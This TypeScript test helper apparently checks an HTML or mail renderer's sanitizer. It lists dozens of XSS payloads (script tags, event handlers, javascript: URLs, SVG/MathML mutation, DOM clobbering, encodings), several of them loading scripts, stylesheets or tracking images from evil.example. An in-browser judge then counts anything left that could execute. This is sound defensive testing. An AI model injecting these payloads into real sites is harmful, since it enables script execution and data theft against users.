/** Script in the words of strangers: one of each class for every run, and the whole corpus where it is. */
import { existsSync, readdirSync, readFileSync } from 'node:fs'

const corpus = new URL('../../../shared/data/security/xss/', import.meta.url)
export const hasCorpus = existsSync(corpus)
export const isFull = process.env.ATTACKS_FULL === '1'

/** Every distinct line of the corpus. */
export function listCorpus(): string[] {
  const lines = new Set<string>()
  for (const name of readdirSync(corpus).filter((file) => file.endsWith('.txt'))) {
    for (const line of readFileSync(new URL(name, corpus), 'utf8').split('\n')) if (line.trim() !== '') lines.add(line)
  }
  return [...lines]
}

/** Written for this test, one for each way in: plain tags, handlers, addresses, raw text, foreign markup, broken markup, styles, clobbering, templates, encodings. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '"><script>alert(1)</script>', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '<img/src/onerror=alert(1)>', '<img src="x"onerror="alert(1)">', '<img src=`x` onerror=alert(1)>', '"><img src=x onerror=alert(1)>', "'-alert(1)-'", '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<video><source onerror=alert(1)></video>', '<audio src onloadstart=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<p onpointerover=alert(1)>over</p>',
  '<a href="javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:alert(1)">x</a>', 'javascript:alert(1)', '[x](javascript:alert(1))',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src="javascript:alert(1)">', '<frameset onload=alert(1)>', '<base href="javascript:alert(1)//">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<link rel="stylesheet" href="//evil.example/x.css">',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math href="javascript:alert(1)">x</math>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>', '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>', '<style><img title="</style><img src onerror=alert(1)>"></style>', '<plaintext><img src onerror=alert(1)>', '<template><script>alert(1)</script></template>', '<select><iframe><script>alert(1)</script></select>',
  '<div style="background:url(javascript:alert(1))">x</div>', '<div style="width:expression(alert(1))">x</div>', '<style>@import "//evil.example/x.css";*{background:url(//evil.example/y)}</style>', '<div style="position:fixed;inset:0;z-index:9999">cover</div>',
  '<form action="//evil.example"><button formaction="javascript:alert(1)">x</button><input name=attributes><input name=parentNode></form>', '<a id=body name=attributes>x</a><img name=getElementById>', '<img src="//evil.example/p.gif"><img srcset="//evil.example/q.gif 2x"><table background="//evil.example/r.gif">',
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= alert(1) %>', '<!--><img src=x onerror=alert(1)>-->', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', '\0<scr\0ipt>alert(1)</script>', '\u2028alert(1)', '＜script＞alert(1)＜/script＞', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '&lt;script&gt;alert(1)&lt;/script&gt;',
]

export interface Judged { executable: number; examples: string[] }
/**
 * Runs inside the browser: what in this page and its frames could execute or fetch by itself. Asks the prototypes,
 * because names in the page may shadow them; frames hold foreign words only, so they may hold no tool of a page either.
 */
export function judge(): Judged {
  const attributesOf = Object.getOwnPropertyDescriptor(Element.prototype, 'attributes')!.get!
  const nameOf = Object.getOwnPropertyDescriptor(Element.prototype, 'localName')!.get!
  const ever = new Set(['object', 'embed', 'applet', 'frame', 'frameset', 'base', 'portal', 'xmp', 'plaintext', 'marquee', 'animate', 'set', 'math', 'noembed', 'video', 'audio', 'foreignobject'])
  const inMail = new Set([...ever, 'script', 'iframe', 'link', 'form', 'input', 'button', 'textarea', 'select', 'svg', 'source', 'noscript', 'template'])
  const examples: string[] = []
  let executable = 0
  const look = (root: Document, isMail: boolean, isCopy: boolean): void => {
    for (const node of root.querySelectorAll('*')) {
      const name = String(nameOf.call(node)).toLowerCase()
      const attributes = [...(attributesOf.call(node) as NamedNodeMap)]
      const value = (wanted: string): string => attributes.find((one) => one.name === wanted)?.value ?? ''
      const isBad = (isMail ? inMail : ever).has(name)
        || (name === 'script' && (value('src') === '' || !new URL(value('src'), location.href).href.startsWith(location.origin)))
        || (name === 'iframe' && (/allow-scripts/.test(value('sandbox')) || !attributes.some((one) => one.name === 'sandbox')))
        || attributes.some((one) => {
          const text = one.value.replace(/[\p{Cc}\s]/gu, '').toLowerCase()
          if (one.name.startsWith('on') || one.name === 'formaction' || one.name === 'background' || one.name === 'ping') return true
          if (isMail && ['id', 'name', 'class', 'srcset', 'srcdoc', 'action'].includes(one.name)) return true
          if (isMail && one.name === 'style') return /url\(|expression|position|behavior|@import/.test(text)
          if (['href', 'src', 'xlink:href', 'data', 'action'].includes(one.name)) return /^(?:javascript|vbscript|data:(?!,$|image\/(?:png|jpe?g|gif|webp)[;,]))/.test(text)
          return false
        })
      if (isBad) {
        executable++
        if (examples.length < 5) examples.push(node.outerHTML.slice(0, 200))
      }
      if (name === 'iframe' && !isCopy) {
        const inner = (node as HTMLIFrameElement).contentDocument
        if (!inner) continue
        let html = inner.body.innerHTML
        // Read and written again twice: what mutates shows only then.
        for (let round = 0; round < 3; round++) {
          const copy = new DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html')
          look(copy, true, true)
          html = copy.body.innerHTML
        }
      }
    }
  }
  look(document, false, false)
  return { executable, examples }
}

/** Runs inside the browser: texts that stand the wrong way round because somebody else's words turned the line. */
export function readBackwards(): string[] {
  const turns = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/
  const wrong: string[] = []
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
  for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
    const text = node.nodeValue ?? ''
    if (text.trim().length < 3 || turns.test(text)) continue
    const at = text.search(/\S/)
    const place = (index: number): DOMRect => { const range = document.createRange(); range.setStart(node, index); range.setEnd(node, index + 1); return range.getBoundingClientRect() }
    const [first, second] = [place(at), place(at + 1)]
    if (first.width > 0 && second.width > 0 && Math.abs(first.top - second.top) < 2 && second.left < first.left - 1) wrong.push(text.trim().slice(0, 60))
  }
  return wrong
}
